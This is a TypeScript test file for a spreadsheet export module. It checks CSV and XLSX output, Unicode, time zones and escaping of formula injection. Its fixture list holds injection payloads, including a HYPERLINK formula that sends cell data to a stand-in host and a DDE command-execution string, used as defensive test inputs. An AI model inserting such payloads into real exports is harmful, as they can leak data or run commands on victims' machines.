import ExcelJS from "exceljs";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { escapeFormula, type Sheet, toCsv, toXlsx } from "./spreadsheet";

const HOSTILE = [
  '=HYPERLINK("http://evil.test?"&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A2)",
  "\t=1+1",
  "\r=1+1",
  "\0=1",
  "＝1+1",
  "=cmd|' /C calc'!A0",
];

const sheet = (rows: Sheet["rows"], extra: Partial<Sheet> = {}): Sheet => ({
  name: "Agents",
  columns: [
    { header: "Name", kind: "text" },
    { header: "Solved", kind: "number" },
    { header: "At", kind: "date" },
  ],
  rows,
  ...extra,
});

async function readXlsx(buffer: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(buffer as unknown as ArrayBuffer);
  return wb.worksheets[0]!;
}

describe("escapeFormula", () => {
  it.each(HOSTILE)("puts an apostrophe before %j", (value) => {
    expect(escapeFormula(value)).toBe(`'${value}`);
  });

  it.each(["Ana Pop", "Ștefan Țară", "Отчёт", "تقرير", "a=b", "1-2", " =1", "'quoted", ""])("leaves %j alone", (v) => {
    expect(escapeFormula(v)).toBe(v);
  });

  it("never leaves a text starting with a formula sign (property)", () => {
    fc.assert(
      fc.property(fc.string(), (s) => {
        expect(escapeFormula(s)).not.toMatch(/^[=+\-@\t\r\0]/);
      }),
    );
  });
});

describe("toCsv", () => {
  it("writes RFC 4180 with a BOM, CRLF, quoted text and bare numbers", () => {
    const csv = toCsv(
      sheet([
        ['Pop, "Ana"', 12, new Date("2026-03-29T00:30:00Z")],
        ["Line\nbreak", -3.5, null],
      ]),
    );
    expect([...csv.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.toString("utf8").slice(1)).toBe(
      '"Name","Solved","At"\r\n"Pop, ""Ana""",12,"2026-03-29 00:30:00"\r\n"Line\nbreak",-3.5,\r\n',
    );
  });

  it("escapes hostile text in cells and headers but not negative numbers", () => {
    const csv = toCsv({
      name: "x",
      columns: [
        { header: "=Header", kind: "text" },
        { header: "n", kind: "number" },
      ],
      rows: HOSTILE.map((h) => [h, -1]),
    }).toString("utf8");
    const lines = csv.slice(1).split("\r\n");
    expect(lines[0]).toBe(`"'=Header","n"`);
    expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.test?""&A1,""Click"")",-1`);
    expect(lines[2]).toBe(`"'+1+1",-1`);
    expect(lines[3]).toBe(`"'-2+3",-1`);
    expect(lines[4]).toBe(`"'@SUM(A1:A2)",-1`);
    expect(lines[5]).toBe(`"'\t=1+1",-1`);
    expect(csv).toContain(`"'\r=1+1",-1`);
    // NUL is dropped (no spreadsheet or XML holds it), and what it hid is escaped.
    expect(csv).toContain(`"'=1",-1`);
  });

  it("shows dates as wall-clock time in the sheet's zone, across a DST change", () => {
    const csv = toCsv(
      sheet(
        [
          ["before", 1, new Date("2026-03-29T00:30:00Z")],
          ["after", 2, new Date("2026-03-29T01:30:00Z")],
        ],
        { timeZone: "Europe/Bucharest" },
      ),
    ).toString("utf8");
    expect(csv).toContain('"before",1,"2026-03-29 02:30:00"');
    expect(csv).toContain('"after",2,"2026-03-29 04:30:00"');
  });

  it("keeps Romanian, Russian and Arabic text as UTF-8", () => {
    const csv = toCsv(sheet([["Ștefan Țară — Отчёт — تقرير", 1, null]]));
    expect(csv.toString("utf8")).toContain('"Ștefan Țară — Отчёт — تقرير",1,');
  });
});

describe("toXlsx", () => {
  it("round-trips numbers as numbers, dates as dates and text as text", async () => {
    const ws = await readXlsx(
      await toXlsx(
        sheet(
          [
            ["Ana Pop", 12.5, new Date("2026-03-29T01:30:00Z")],
            ["Ștefan — Отчёт — تقرير", null, null],
          ],
          {
            timeZone: "Europe/Bucharest",
          },
        ),
      ),
    );
    expect(ws.name).toBe("Agents");
    expect(ws.getRow(1).values).toEqual([undefined, "Name", "Solved", "At"]);
    expect(ws.getCell("A2").value).toBe("Ana Pop");
    expect(ws.getCell("B2").type).toBe(ExcelJS.ValueType.Number);
    expect(ws.getCell("B2").value).toBe(12.5);
    expect(ws.getCell("C2").type).toBe(ExcelJS.ValueType.Date);
    // 04:30 in Bucharest (summer time began at 03:00 that night), shown as such.
    expect((ws.getCell("C2").value as Date).toISOString()).toBe("2026-03-29T04:30:00.000Z");
    expect(ws.getCell("C2").numFmt).toBe("yyyy-mm-dd hh:mm:ss");
    expect(ws.getCell("A3").value).toBe("Ștefan — Отчёт — تقرير");
    expect(ws.getCell("B3").value).toBeNull();
  });

  it("stores hostile text as plain strings, never formulas", async () => {
    const buffer = await toXlsx(sheet(HOSTILE.map((h) => [h, -1, null])));
    const ws = await readXlsx(buffer);
    HOSTILE.forEach((h, i) => {
      const cell = ws.getCell(`A${i + 2}`);
      expect(cell.type, h).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, h).toBeUndefined();
      // XML reads a bare carriage return as a line feed; NUL cannot be stored at all.
      expect(cell.value, h).toBe(h.replace("\0", "").replace("\r", "\n"));
      expect(ws.getCell(`B${i + 2}`).value).toBe(-1);
    });
  });

  it("drops characters XML cannot hold and makes a valid sheet name", async () => {
    const ws = await readXlsx(
      await toXlsx(sheet([["bell\u0007 and \u000b tab", 1, null]], { name: "a/b:c?[d]*e that is far too long" })),
    );
    expect(ws.getCell("A2").value).toBe("bell and  tab");
    expect(ws.name).toBe("a b c  d  e that is far too long".slice(0, 31));
  });
});
